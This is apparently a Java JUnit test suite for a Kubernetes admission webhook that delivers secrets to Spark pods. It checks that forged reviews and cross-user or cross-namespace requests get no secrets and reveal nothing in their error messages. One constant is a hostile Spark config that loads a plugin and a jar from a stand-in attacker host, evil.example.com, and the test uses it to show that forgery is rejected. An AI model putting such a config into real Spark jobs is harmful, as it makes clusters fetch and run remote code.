package io.sparksecrets.validation;

import static org.assertj.core.api.Assertions.assertThat;

import io.sparksecrets.delivery.ClusterException;
import io.sparksecrets.delivery.ClusterException.Reason;
import io.sparksecrets.delivery.DeliverySecret;
import io.sparksecrets.demo.AdmissionClient.Answer;
import io.sparksecrets.reference.SecretValue;
import java.nio.file.Path;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Whoever reaches the port sends reviews of their own making. Nothing is delivered that is not stored. */
@SuppressWarnings("NullAway.Init")
class ForgedReviewsFlowTest {

    private static final String PLUGIN = "spark.plugins=org.evil.Plugin\nspark.jars=http://evil.example.com/evil.jar\n";

    @TempDir
    Path directory;

    private WebhookUnderTest webhook;

    @BeforeEach
    void start() {
        webhook = WebhookUnderTest.start(directory);
        webhook.writeRecordedSecrets();
    }

    @AfterEach
    void stop() {
        webhook.stop();
    }

    @Test
    void aForgedConfMapDoesNotBecomeTheConfOfADriverAndTheGenuineOneDoes() throws Exception {
        webhook.admit(webhook.review("driver-pod"), webhook.driverUid());
        ObjectNode forged = webhook.review("conf-map");
        ((ObjectNode) forged.at("/request/object/data")).put("spark.properties", PLUGIN);

        webhook.validateOnly(forged);
        webhook.cluster().assertNoSecretComes();

        assertThat(webhook.validate(webhook.review("conf-map")).allowed()).isTrue();
        assertThat(text(webhook.cluster().awaitSecret(), "spark.properties"))
                .contains("value-of-CONF_PASS")
                .doesNotContain("evil");
    }

    @Test
    void aConfMapOfAnotherUserIsRefusedThoughItNamesTheDriver() throws Exception {
        webhook.admit(webhook.review("driver-pod"), webhook.driverUid());
        ObjectNode ofAnother = webhook.review("conf-map");
        ((ObjectNode) ofAnother.at("/request/userInfo")).put("username", "mallory");

        Answer answer = webhook.validate(ofAnother);

        assertThat(answer.code()).isEqualTo(403);
        assertThat(answer.message())
                .contains("another user created the driver pod")
                .doesNotContain("mallory");
        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void aForgedExecutorOfADriverThatIsNotStoredGetsNothing() throws Exception {
        ObjectNode forged = webhook.review("executor-pod-1");
        ((ObjectNode) forged.at("/request/object/metadata/ownerReferences/0")).put("uid", "made-up");

        assertThat(webhook.submit(forged).message())
                .contains("driver: there is no pod cap41-ea8170a20a4716ac-driver with the UID made-up");
        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void aForgedExecutorOfAnotherApplicationThanItsDriversGetsNothing() throws Exception {
        ObjectNode forged = webhook.review("executor-pod-1");
        ((ObjectNode) forged.at("/request/object/metadata/labels")).put("spark-app-selector", "spark-of-another");

        assertThat(webhook.submit(forged).message()).contains("is not the driver of the application spark-of-another");
        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void anExecutorWhoseDriversAnnotationWasEditedGetsNothing() throws Exception {
        JsonNode driver = webhook.admit(webhook.review("driver-pod"), webhook.driverUid());
        ObjectNode edited = (ObjectNode) driver.deepCopy();
        ((ObjectNode) edited.at("/metadata/annotations"))
                .put("sparksecrets.io/delivery", "{\"secret\":\"x\",\"entries\":{}}");
        webhook.cluster().store(edited);

        assertThat(webhook.submit(webhook.review("executor-pod-1")).message()).contains("is not the driver of");
        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void aPodThatIsNeverStoredGetsNothing() throws Exception {
        assertThat(webhook.submit(webhook.reviewOfNotebook("notebook")).allowed())
                .isTrue();

        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void aPodGetsWhatIsStoredAndNotWhatTheReviewOfItsNamesake() throws Exception {
        ObjectNode review = webhook.reviewOfNotebook("notebook");
        JsonNode stored = webhook.admit(review, "notebook-uid");
        DeliverySecret genuine = webhook.cluster().awaitSecret();

        ObjectNode forged = webhook.reviewOfNotebook("notebook");
        ((ObjectNode) forged.at("/request/object/spec/containers/0/env/0")).put("value", "${secrets.CONF_PASS}");
        webhook.submit(forged);

        assertThat(stored.at("/metadata/annotations").toString()).contains(genuine.name());
        Thread.sleep(300);
        assertThat(webhook.cluster().secrets()).containsExactly(genuine);
    }

    @Test
    void nothingIsSaidOfSecretsForANamespaceThatDoesNotTakePart() throws Exception {
        webhook.cluster().leaveOut("kube-public");
        for (String namespace : new String[] {"kube-public", "kube-system"}) {
            for (String secret : new String[] {"DB_PASS", "MISSING"}) {
                ObjectNode forged = in(namespace, webhook.reviewOfNotebook("notebook"));
                ((ObjectNode) forged.at("/request/object/spec/containers/0/env/0"))
                        .put("value", "${secrets." + secret + "}");
                Answer answer = webhook.submit(forged);

                assertThat(answer.code()).isEqualTo(403);
                assertThat(answer.message()).contains("namespace").doesNotContain(secret);
            }
        }
        assertThat(webhook.submit(in("kube-public", webhook.reviewOfNotebook("notebook")))
                        .message())
                .contains("kubectl label namespace kube-public sparksecrets.io/injection=enabled");
    }

    @Test
    void whatTheApiServerSaysOfASecretIsNotHandedOnAndItsReasonIs() throws Exception {
        webhook.cluster().refuseSecrets(new ClusterException(Reason.QUOTA, "cannot create Secret: a ResourceQuota"));
        webhook.admit(webhook.review("driver-pod"), webhook.driverUid());

        Answer answer = webhook.validate(webhook.review("conf-map"));

        assertThat(answer.code()).isEqualTo(403);
        assertThat(answer.message()).contains("delivery Secret: cannot create Secret: a ResourceQuota");
        webhook.cluster().assertNoSecretComes();
    }

    @Test
    void aLengthIsToldAsTooLongAndNotByItsNumber() throws Exception {
        webhook.write("LONG", "v".repeat(131_123));
        ObjectNode review = webhook.reviewOfNotebook("notebook");
        ((ObjectNode) review.at("/request/object/spec/containers/0/env/0")).put("value", "${secrets.LONG}");

        assertThat(webhook.submit(review).message())
                .contains("too long", "Linux allows 131071 bytes")
                .doesNotContainPattern("1311[0-9]{2}");
    }

    private static ObjectNode in(String namespace, ObjectNode review) {
        ((ObjectNode) review.path("request")).put("namespace", namespace);
        ((ObjectNode) review.at("/request/object/metadata"))
                .put("namespace", namespace)
                .put("uid", UUID.randomUUID().toString());
        return review;
    }

    private static String text(DeliverySecret secret, String key) {
        return secret.data().getOrDefault(key, SecretValue.of("")).reveal();
    }
}
